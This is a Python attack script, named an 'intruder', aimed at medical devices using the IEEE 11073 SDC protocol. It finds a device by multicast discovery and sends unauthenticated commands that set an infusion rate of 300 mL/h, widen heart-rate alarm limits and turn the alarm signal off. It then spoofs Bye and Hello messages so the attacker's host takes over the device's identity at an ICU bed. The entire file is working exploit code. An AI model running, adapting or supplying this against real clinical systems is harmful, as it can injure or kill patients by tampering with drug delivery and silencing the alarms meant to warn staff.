"""Someone who speaks SDC by hand: python3 sdc_intruder.py ADDRESS.

It searches for medical devices, reads what the first one is, asks it for a rate of 300 mL/h, for wider limits and for silence, then says Bye in its
name, and Hello for itself under its endpoint reference.
"""
import re
import socket
import sys
import time
import urllib.request
import uuid

address = sys.argv[1]
GROUP = ('239.255.255.250', 3702)
SDC = 'http://standards.ieee.org/downloads/11073/11073-20701-2018'
WSD = 'http://docs.oasis-open.org/ws-dd/ns/discovery/2009/01'
SPACES = ('xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://www.w3.org/2005/08/addressing" xmlns:d="' + WSD + '" '
          'xmlns:dpws="http://docs.oasis-open.org/ws-dd/ns/dpws/2009/01" xmlns:mdpws="http://standards.ieee.org/downloads/11073/11073-20702-2016" '
          'xmlns:msg="http://standards.ieee.org/downloads/11073/11073-10207-2017/message" '
          'xmlns:pm="http://standards.ieee.org/downloads/11073/11073-10207-2017/participant" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"')


def soap(action, body, to='urn:docs-oasis-open-org:ws-dd:ns:discovery:2009:01', more=''):
    return (f'<?xml version="1.0" encoding="UTF-8"?><s:Envelope {SPACES}><s:Header><a:To>{to}</a:To><a:Action>{action}</a:Action>'
            f'<a:MessageID>urn:uuid:{uuid.uuid4()}</a:MessageID>{more}</s:Header><s:Body>{body}</s:Body></s:Envelope>').encode()


def announce(action, body):
    message = soap(f'{WSD}/{action}', body, more='<d:AppSequence InstanceId="1" MessageNumber="1"/>')
    for _ in range(2):
        udp.sendto(message, GROUP)
        time.sleep(0.1)


def post(url, action, body):
    request = urllib.request.Request(url, soap(action, body, url), {'Content-Type': 'application/soap+xml; charset=utf-8'})
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            print(action.rsplit('/', 1)[1], answer.status)
    except OSError as e:
        print(action.rsplit('/', 1)[1], e)


def call(operation, body):
    post(base + '/Set', f'{SDC}/SetService/{operation}', body)
    time.sleep(2)


udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
udp.bind((address, 0))
udp.settimeout(5)
udp.sendto(soap(f'{WSD}/Probe', '<d:Probe><d:Types>mdpws:MedicalDevice</d:Types></d:Probe>'), GROUP)
match = udp.recv(65535).decode()
base = re.search(r'XAddrs>\s*([^\s<]+)', match).group(1)
epr = re.search(r'(urn:uuid:[^<]+)</[^>]*Address>', match.split('Body', 1)[1]).group(1)
post(base, 'http://schemas.xmlsoap.org/ws/2004/09/transfer/Get', '')
call('SetValue', '<msg:SetValue><msg:OperationHandleRef>op.rate</msg:OperationHandleRef><msg:RequestedNumericValue>300</msg:RequestedNumericValue></msg:SetValue>')
call('SetAlertState', '<msg:SetAlertState><msg:OperationHandleRef>op.limit</msg:OperationHandleRef><msg:ProposedAlertState xsi:type="pm:LimitAlertConditionState" '
     'DescriptorHandle="ac.hr" ActivationState="On" MonitoredAlertLimits="None"><pm:Limits Lower="20" Upper="250"/></msg:ProposedAlertState></msg:SetAlertState>')
call('SetAlertState', '<msg:SetAlertState><msg:OperationHandleRef>op.sig</msg:OperationHandleRef><msg:ProposedAlertState xsi:type="pm:AlertSignalState" '
     'DescriptorHandle="sig.hr" ActivationState="Off"/></msg:SetAlertState>')
announce('Bye', f'<d:Bye><a:EndpointReference><a:Address>{epr}</a:Address></a:EndpointReference></d:Bye>')
time.sleep(3)
announce('Hello', f'<d:Hello><a:EndpointReference><a:Address>{epr}</a:Address></a:EndpointReference><d:Types>dpws:Device mdpws:MedicalDevice</d:Types>'
         f'<d:Scopes>sdc.ctxt.loc:/sdc.ctxt.loc.detail/HOSP1%2F%2F%2FICU1%2F%2FBed12?fac=HOSP1&amp;poc=ICU1&amp;bed=Bed12 sdc.mds.pkp:1.2.840.10004.20701.1.1</d:Scopes>'
         f'<d:XAddrs>http://{address}:6464/x</d:XAddrs><d:MetadataVersion>2</d:MetadataVersion></d:Hello>')
